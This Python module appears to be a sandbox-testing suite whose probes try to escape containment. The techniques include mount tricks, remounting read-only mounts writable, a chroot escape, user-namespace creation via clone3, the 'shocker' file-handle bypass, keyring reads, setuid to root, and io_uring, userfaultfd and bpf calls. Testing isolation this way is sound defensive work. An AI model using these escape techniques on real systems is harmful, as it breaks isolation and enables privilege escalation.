"""Attacks with system calls: mounts, namespaces, keyrings, and calls that make the kernel itself easier to attack.

If an attack would change this process or the host, a child that ends at once tries it, in its own namespaces if it can
get them. Attacks mount only on directories that the test passes.
"""

import ctypes
import json
import os
import platform
import signal
import socket

from probes_files import attempt, canaries, name_of, read

LIBC = ctypes.CDLL(None, use_errno=True)
_ARM = platform.machine() == "aarch64"
# The numbers on x86_64 (asm/unistd_64.h) and on aarch64 (asm-generic/unistd.h).
_NUMBERS = {
    "bpf": (321, 280), "clone3": (435, 435), "fsopen": (430, 430), "io_uring_setup": (425, 425), "keyctl": (250, 219),
    "mount_setattr": (442, 442), "open_tree": (428, 428), "perf_event_open": (298, 241), "pidfd_getfd": (438, 438),
    "userfaultfd": (323, 282),
}  # fmt: skip
_NEWNS, _NEWUSER = 0x00020000, 0x10000000
_MS_REMOUNT, _MS_BIND, _MS_PRIVATE, _MS_REC, _MNT_DETACH = 32, 4096, 1 << 18, 16384, 2
_KEYCTL_READ, _KEYCTL_SEARCH, _SESSION_KEYRING = 11, 10, -3


def number(name):
    """Return the number of a system call on this machine."""
    return _NUMBERS[name][_ARM]


def call(function, *arguments):
    """Call a function of the C library and return "done" or the error's name."""
    ctypes.set_errno(0)
    result = function(*arguments)
    return "done" if result not in (-1, None) else name_of(OSError(ctypes.get_errno(), ""))


def system_call(name, *arguments):
    """Make a system call, close the descriptor if it returns one, and return "done" or the error's name."""
    ctypes.set_errno(0)
    result = LIBC.syscall(number(name), *arguments)
    if result == -1:
        return name_of(OSError(ctypes.get_errno(), ""))
    if result > 2:
        attempt(os.close, result)
    return "done"


def in_child(function):
    """Run a function in a forked child, and return its result."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            result = function()
        except BaseException as error:
            result = {"crashed": f"{type(error).__name__}: {error}"}
        os.write(write_end, json.dumps(result).encode())
        os._exit(0)
    os.close(write_end)
    data = b""
    while part := os.read(read_end, 65536):
        data += part
    os.close(read_end)
    os.waitpid(pid, 0)
    return json.loads(data)


def _own_namespaces():
    """Enter a new user and mount namespace, with private mounts."""
    entered = call(LIBC.unshare, _NEWUSER | _NEWNS)
    if entered == "done":
        call(LIBC.mount, b"none", b"/", None, ctypes.c_ulong(_MS_REC | _MS_PRIVATE), None)
    return entered


def new_user_namespace():
    """Enter a user namespace, where a process has every capability again."""
    return in_child(lambda: call(LIBC.unshare, _NEWUSER))


def cloned_namespace():
    """Make a user namespace with clone3, whose flags a system call filter cannot see."""

    class Arguments(ctypes.Structure):
        _fields_ = tuple((name, ctypes.c_uint64) for name in "flags pidfd child parent exit stack size tls".split())

    def clone():
        arguments = Arguments(flags=_NEWUSER, exit=signal.SIGCHLD)
        result = LIBC.syscall(number("clone3"), ctypes.byref(arguments), ctypes.sizeof(arguments))
        if result == 0:
            os._exit(0)
        return "done" if result > 0 else name_of(OSError(ctypes.get_errno(), ""))

    return in_child(clone)


def mount_over(directory):
    """Mount over a directory with the old and the new calls, in its own namespaces if it can get them."""

    def mount():
        entered = _own_namespaces()
        old = call(LIBC.mount, b"none", directory.encode(), b"tmpfs", 0, None) if entered == "done" else entered
        if entered != "done":
            old = call(LIBC.mount, directory.encode(), directory.encode(), None, ctypes.c_ulong(_MS_BIND), None)
            call(LIBC.umount2, directory.encode(), _MNT_DETACH)
        return {"mount": old, "fsopen": system_call("fsopen", b"tmpfs", 0), "open_tree": _open_tree(directory)}

    return in_child(mount)


def _open_tree(directory):
    return system_call("open_tree", -100, directory.encode(), 1)  # OPEN_TREE_CLONE


def unmount(directory):
    """Unmount a mount that hides the caller's files."""

    def unmount():
        if _own_namespaces() == "done":
            call(LIBC.mount, b"none", directory.encode(), b"tmpfs", 0, None)
        return call(LIBC.umount2, directory.encode(), _MNT_DETACH)

    return in_child(unmount)


def write_after_remount(directory, path, text):
    """Make a read-only mount writable again with the old and the new call, and write to it."""

    class Attributes(ctypes.Structure):
        _fields_ = tuple((name, ctypes.c_uint64) for name in ("set", "clear", "propagation", "userns"))

    change = Attributes(clear=1)  # MOUNT_ATTR_RDONLY
    size = ctypes.c_size_t(ctypes.sizeof(change))
    new = LIBC.syscall(number("mount_setattr"), -100, directory.encode(), 0, ctypes.byref(change), size)
    flags = ctypes.c_ulong(_MS_REMOUNT | _MS_BIND)
    old = call(LIBC.mount, None, directory.encode(), None, flags, None)

    def write():
        with open(path, "x") as file:
            file.write(text)

    return {"new": new, "old": old, "write": attempt(write)}


def change_root(directory, outside):
    """Escape from the root in the classic way: chroot below a directory that stays open, then go up from there."""

    def escape():
        _own_namespaces()
        try:
            start = os.open("..", os.O_PATH)
        except OSError as error:
            return {"found": [], "error": name_of(error)}
        result = attempt(os.chroot, directory)
        attempt(os.fchdir, start)
        for _ in range(64):
            attempt(os.chdir, "..")
        return {"chroot": result, **read([outside.lstrip("/")])}

    return in_child(escape)


def enter_mount_namespace(pid, path):
    """Enter another process's mount namespace and read a file there."""

    def enter():
        try:
            fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        except OSError as error:
            return {"found": [], "error": name_of(error)}
        return {"setns": call(LIBC.setns, fd, 0), **read([path])}

    return in_child(enter)


def old_roots(names, path):
    """Look for the host's root in the places where careless sandboxes leave it."""
    return read([f"{name}{path}" for name in names])


def propagation():
    """Return the mounts whose later submounts propagate to the host or from it."""
    with open("/proc/self/mountinfo") as file:
        optional = {line.split()[4]: line.split(" - ")[0].split()[6:] for line in file}
    return {"shared": {path: fields for path, fields in optional.items() if fields}}


def mount_flags(path):
    """Return the flags of the mount that contains a path, ST_* of statvfs(3)."""
    return os.statvfs(path).f_flag


def session_key(description):
    """Read a key of the caller's session keyring."""
    ctypes.set_errno(0)
    keyring = ctypes.c_long(_SESSION_KEYRING)
    key = LIBC.syscall(number("keyctl"), _KEYCTL_SEARCH, keyring, b"user", description.encode(), 0)
    if key < 0:
        return {"found": [], "error": name_of(OSError(ctypes.get_errno(), ""))}
    buffer = ctypes.create_string_buffer(256)
    LIBC.syscall(number("keyctl"), _KEYCTL_READ, key, buffer, ctypes.c_size_t(256))
    return {"found": canaries(buffer.raw)}


def file_handle(kind, handle, directory):
    """Open a file by a guessed handle, which bypasses every mount ("shocker", 2014)."""

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128))

    data = bytes.fromhex(handle)
    guessed = Handle(len(data), kind, (ctypes.c_ubyte * 128)(*data))
    mount = os.open(directory, os.O_RDONLY)
    ctypes.set_errno(0)
    fd = LIBC.open_by_handle_at(mount, ctypes.byref(guessed), os.O_RDONLY)
    os.close(mount)
    if fd < 0:
        return {"found": [], "error": name_of(OSError(ctypes.get_errno(), ""))}
    with open(fd, "rb") as file:
        return {"found": canaries(file.read())}


def kernel_log():
    """Ask for the size of the kernel's log with a system call."""
    return call(LIBC.klogctl, 10, None, 0)


def ring():
    """Set up an io_uring, whose operations bypass system call filters."""
    return system_call("io_uring_setup", 1, ctypes.create_string_buffer(256))


def page_faults():
    """Handle page faults in user space, which makes many kernel bugs exploitable."""
    return system_call("userfaultfd", 1)  # UFFD_USER_MODE_ONLY


def programs():
    """Create a BPF map, the first step of loading a program into the kernel."""
    attributes = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY, key, value, entries
    return system_call("bpf", 0, ctypes.byref(attributes), ctypes.sizeof(attributes))


def performance_counters():
    """Count events of this process, except those in the kernel."""
    attributes = (ctypes.c_uint64 * 16)(1 | 112 << 32, 1, 0, 0, 0, 0b1100000)  # software clock; exclude kernel, hv
    return system_call("perf_event_open", ctypes.byref(attributes), 0, -1, -1, 0)


def status():
    """Return the privileges of this process, from /proc/self/status."""
    wanted = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Uid", "Gid", "Groups")
    with open("/proc/self/status") as file:
        lines = [line.split(":", 1) for line in file]
    return {name: value.split() for name, value in lines if name in wanted}


def become_root():
    """Change the user id to root's."""
    return in_child(lambda: attempt(os.setresuid, 0, 0, 0))


def host_name():
    """Return the host name, and try to set it to its current value."""
    name = socket.gethostname()
    return {"name": name, "set": attempt(socket.sethostname, name)}


PROBES = {
    function.__name__: function
    for function in (
        become_root,
        change_root,
        cloned_namespace,
        enter_mount_namespace,
        file_handle,
        host_name,
        kernel_log,
        mount_flags,
        mount_over,
        new_user_namespace,
        old_roots,
        page_faults,
        performance_counters,
        programs,
        propagation,
        ring,
        session_key,
        status,
        unmount,
        write_after_remount,
    )
}
